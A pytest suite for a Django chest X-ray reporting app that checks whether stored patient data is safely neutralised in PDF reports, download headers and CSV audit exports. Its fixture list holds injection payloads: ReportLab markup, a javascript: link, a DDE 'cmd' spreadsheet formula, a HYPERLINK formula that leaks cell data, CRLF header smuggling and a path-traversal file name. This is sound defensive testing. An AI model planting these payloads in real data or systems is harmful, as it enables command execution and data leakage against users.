"""Patient data is hostile input wherever it is written out: the report PDF (ReportLab's
Paragraph mini-markup), download headers and CSV exports.

The hostile values are written straight into the database, past any input validation, as data
stored before that validation existed would be: the output side must be safe on its own.
"""

from __future__ import annotations

import csv
import hashlib
import io
import unicodedata
from email.message import Message

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.base import ContentFile
from pypdf import PdfReader

from cxrweb.audit.models import AuditEvent
from cxrweb.responses import csv_cell, download_name
from diagnosis.models import Image, Patient, Prediction, Reading, Study
from tests import imagegen
from training.models import ModelVersion

HOSTILE = [
    # From issue #20.
    '<img src="/etc/passwd.png"/>',
    "<b>unclosed",
    '"><img src=x>',
    '<img src="http://example.com/x.png"/>',
    '<a href="javascript:alert(1)">x</a>',
    '<font color="white">hidden</font>',
    'x"; filename="evil.html',
    "ACC\r\nX-Evil: 1",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    # Our own: ReportLab's other tags, entities, quotes in attributes, the other formula starts.
    '<link href="http://example.com/">y</link>',
    '<onDraw name="showPage" label="x"/>',
    "&lt;b&gt; already &amp; escaped",
    'it\'s "quoted" & <i>',
    "</para><para>",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1",
    "\rCR=1",
]
# Full-width formula starts, which some spreadsheets fold to ASCII: for the CSV only (the PDF's
# standard fonts have no glyphs for them, so they cannot be read back from its text).
FULL_WIDTH = ["ＨＩ＝ＳＵＭ(1)", "＝1+1", "＠SUM(A1)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _compact(text: str) -> str:
    """Text without whitespace: line wrapping and the PDF's line breaks do not matter."""
    return "".join(text.split())


def _radiologist(username: str, first_name: str = "") -> User:
    user = User.objects.create_user(
        username=username, password="correct horse battery", first_name=first_name
    )
    user.groups.add(Group.objects.get_or_create(name="radiologist")[0])
    return user


def _hostile_study(value: str, *, uploader: User, reader: User) -> Study:
    """A study whose every free-text field (patient, study, model version, prediction, reading)
    holds ``value``, created row by row so that no input validation runs."""
    patient = Patient.objects.create(mrn=value[:64], name=value)
    study = Study.objects.create(patient=patient, accession_number=value[:64], uploaded_by=uploader)
    png = imagegen.png_bytes()
    image = Image(
        study=study,
        sha256=hashlib.sha256(png).hexdigest(),
        format=Image.Format.PNG,
        original_filename=value,
        size_bytes=len(png),
        width=256,
        height=256,
    )
    image.original.save("x.png", ContentFile(png), save=False)
    image.display.save("x.png", ContentFile(png), save=False)
    image.save()
    version = ModelVersion.objects.create(
        name=value,
        architecture=value[:40],
        class_labels=[value[:64], "normal"],
        weights="models/none.pt",
        sha256="0" * 64,
    )
    prediction = Prediction.objects.create(
        image=image,
        model_version=version,
        status=Prediction.Status.DONE,
        label=value[:64],
        probabilities={value[:64]: 0.75, "normal": 0.25},
        cam_class=value[:64],
        cam_method=value[:32],
    )
    Reading.objects.create(
        study=study,
        prediction=prediction,
        model_version=version,
        radiologist=reader,
        agrees_with_model=False,
        final_label=value[:64],
        notes=f"{value}\nsecond line {value}",
    )
    return study


def _pdf_embeds(content: bytes) -> tuple[int, int]:
    """(image XObjects in the whole file, annotations on its pages): what markup could add."""
    reader = PdfReader(io.BytesIO(content))
    images = 0
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(number)
        except Exception:  # a free entry in the cross-reference table
            continue
        if hasattr(obj, "get") and obj.get("/Subtype") == "/Image":
            images += 1
    annotations = sum(len(page.get("/Annots") or []) for page in reader.pages)
    return images, annotations


def _single_filename(header: str) -> str:
    """The one file name a Content-Disposition header gives (RFC 6266 parameters)."""
    assert "\r" not in header and "\n" not in header
    message = Message()
    message["Content-Disposition"] = header
    params = message.get_params(header="content-disposition")
    names = [key for key, _ in params if key.lower().startswith("filename")]
    assert names in (["filename"], ["filename*"]), header
    assert header.lower().count("filename=") + header.lower().count("filename*=") == 1, header
    return message.get_filename()


@pytest.fixture
def uploader(db) -> User:
    return _radiologist("uploader")


def test_a_clean_report_embeds_its_one_image_and_no_link(client, uploader):
    study = _hostile_study("clean value", uploader=uploader, reader=uploader)
    client.force_login(uploader)
    resp = client.get(f"/studies/{study.pk}/report.pdf")
    assert resp.status_code == 200
    assert _pdf_embeds(resp.content) == (1, 0)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_pdf_report_prints_hostile_text_literally_and_embeds_nothing(client, uploader, value):
    reader = _radiologist(value, first_name=value)
    study = _hostile_study(value, uploader=uploader, reader=reader)
    client.force_login(reader)
    resp = client.get(f"/studies/{study.pk}/report.pdf")
    assert resp.status_code == 200 and resp["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(resp.content))
    text = _compact("".join(page.extract_text() for page in pdf.pages))
    # Title, the model line's label, version name and cam class, final label, signer, both note
    # lines, "generated by": each full width, so each reads back whole (table cells may wrap).
    assert text.count(_compact(value)) >= 9, text
    assert pdf.metadata.title == "Chest X-ray report " + " ".join(value[:64].split())
    assert _pdf_embeds(resp.content) == (1, 0)
    expected = download_name(f"report-{value[:64]}", ".pdf")
    assert _single_filename(resp["Content-Disposition"]) == expected
    assert "X-Evil" not in resp


def test_control_characters_in_stored_data_do_not_break_the_pdf(client, uploader):
    value = "ctl\x01\x07\x08\x0b\x0c\x1b\x7f\rend"
    study = _hostile_study(value, uploader=uploader, reader=uploader)
    client.force_login(uploader)
    resp = client.get(f"/studies/{study.pk}/report.pdf")
    assert resp.status_code == 200 and resp["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(resp.content))
    text = "".join(page.extract_text() for page in pdf.pages)
    assert "ctl" in text and "end" in text and "\x1b" not in text
    assert not any(ch in pdf.metadata.title for ch in "\x01\x07\x1b\x7f\r")
    assert _single_filename(resp["Content-Disposition"]) == "report-ctl-end.pdf"


@pytest.mark.parametrize("name", ["Παπαδόπουλος^Νίκος", "Иванов^Пётр", "Łukasz Żółć"])
def test_a_name_in_another_script_prints_as_its_letters_not_as_boxes(client, uploader, name):
    study = _hostile_study("ACC-1", uploader=uploader, reader=uploader)
    Patient.objects.filter(pk=study.patient_id).update(name=name)
    client.force_login(uploader)
    resp = client.get(f"/studies/{study.pk}/report.pdf")
    assert resp.status_code == 200
    pdf = PdfReader(io.BytesIO(resp.content))
    fonts = {
        str(font)
        for page in pdf.pages
        for font in (page["/Resources"].get("/Font") or {}).get_object().values()
        if "DejaVu" in str(font.get_object().get("/BaseFont"))
    }
    assert fonts, "the report embeds DejaVu Sans"
    text = "".join(page.extract_text() for page in pdf.pages)
    assert all(part in text for part in name.split("^")), text


@pytest.mark.parametrize(
    "value", ['x"; filename="evil.html', "ACC\r\nX-Evil: 1", "../../etc/passwd", "ＡＣＣ/２"]
)
def test_every_download_named_from_data_has_exactly_one_safe_file_name(
    client, uploader, admin_user, value
):
    study = _hostile_study(value, uploader=uploader, reader=uploader)
    client.force_login(uploader)
    original = client.get(f"/images/{study.images.get().pk}/original")
    assert original.status_code == 200
    name = _single_filename(original["Content-Disposition"])
    assert name == download_name(value, f"-{study.images.get().pk}.png", fallback="image")
    assert "/" not in name and '"' not in name and not name.startswith(".")
    version = ModelVersion.objects.get(name=value)
    version.weights.save("weights.pt", ContentFile(b"not really weights"), save=True)
    client.force_login(admin_user)
    checkpoint = client.get(f"/training/models/{version.pk}/checkpoint.pt")
    assert checkpoint.status_code == 200
    name = _single_filename(checkpoint["Content-Disposition"])
    assert name.endswith(f"-{'0' * 12}.pt") and "/" not in name and '"' not in name
    assert "X-Evil" not in original and "X-Evil" not in checkpoint


@pytest.mark.parametrize("value", HOSTILE + FULL_WIDTH)
def test_the_audit_csv_neutralises_formulas_from_patients_users_and_browsers(
    client, uploader, admin_user, value
):
    viewer = _radiologist(value)
    study = _hostile_study(value, uploader=uploader, reader=viewer)
    client.force_login(viewer)
    assert client.get(f"/studies/{study.pk}/", HTTP_USER_AGENT=value).status_code == 200
    event = AuditEvent.objects.filter(action="view_study").get()
    client.force_login(admin_user)
    export = client.get("/audit/?action=view_study&format=csv")
    assert export.status_code == 200
    _single_filename(export["Content-Disposition"])
    rows = list(
        csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode(), newline=""))
    )
    assert len(rows) == 1
    for column in ("username", "patient_mrn", "user_agent"):
        stored = getattr(event, column)
        # The hostile value did reach the audit trail (user names are stored NFKC-normalised).
        assert stored.startswith((value[:8], unicodedata.normalize("NFKC", value)[:8]))
        expected = f"'{stored}" if stored.startswith(FORMULA_START) else stored
        assert rows[0][column] == expected, column


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (12, "12"),
        ("'=already", "'=already"),
    ],
)
def test_a_csv_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(value, cell):
    assert csv_cell(value) == cell
